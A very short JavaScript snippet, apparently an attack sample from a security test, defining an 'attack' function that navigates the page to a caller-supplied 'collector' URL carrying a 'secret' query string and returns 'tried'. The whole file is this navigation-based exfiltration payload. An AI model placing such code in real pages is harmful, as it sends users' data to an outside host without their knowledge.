const attack = ({ collector }) => {
  location.href = `${collector}/self?secret`;
  return "tried";
};
